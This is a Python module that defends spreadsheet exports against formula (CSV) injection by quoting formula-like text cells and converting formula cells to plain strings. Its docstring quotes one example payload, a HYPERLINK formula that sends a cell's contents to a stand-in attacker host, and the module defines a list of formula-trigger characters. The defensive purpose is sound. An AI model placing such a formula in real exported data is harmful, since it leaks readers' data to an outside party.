"""Spreadsheet-safe cells: text handed to Excel, WPS or LibreOffice stays text.

A submitter controls names, titles and narratives. A spreadsheet program runs
a cell that begins with `=` (and, in CSV, `+`, `-`, `@`, tab or carriage
return) as a formula, so `=HYPERLINK("http://evil.example/?"&A2)` in a case
title would send a reader's data away. XLSX text cells are therefore always
written as string cells (openpyxl would otherwise store a str beginning with
"=" as a formula: `without_formulas`); CSV text cells that begin with one of
those characters get a leading single quote, as OWASP's "CSV Injection" page
recommends. Numbers stay numbers. (The download tables' XLSX files are written by XlsxWriter, string
cell by string cell: `site.downloads.xlsx_bytes`.)
"""

from __future__ import annotations

from typing import Any

import pandas as pd
from openpyxl import Workbook

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def csv_safe(value: Any) -> Any:
    """A CSV cell a spreadsheet shows as text: formula-like text gets a leading quote."""
    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
        return "'" + value
    return value


def csv_frame(frame: pd.DataFrame) -> pd.DataFrame:
    """The frame with every text cell made safe by `csv_safe` (number columns untouched)."""
    safe = frame.copy()
    for column in safe.columns:
        if not pd.api.types.is_numeric_dtype(safe[column]):
            safe[column] = safe[column].map(csv_safe)
    safe.columns = [csv_safe(str(c)) for c in safe.columns]
    return safe


def csv_text(frame: pd.DataFrame) -> str:
    """The frame as CSV with safe cells. Lines end in CRLF (RFC 4180), which also makes
    the writer quote any cell holding a carriage return, so a cell never splits a row."""
    return csv_frame(frame).to_csv(index=False, lineterminator="\r\n")


def without_formulas(book: Workbook) -> None:
    """Every cell of a (normal-mode) workbook that openpyxl took for a formula becomes text.

    Nothing this program writes is meant to compute: a formula can only have come
    from submitted text.
    """
    for ws in book.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                if cell.data_type == "f":
                    cell.data_type = "s"
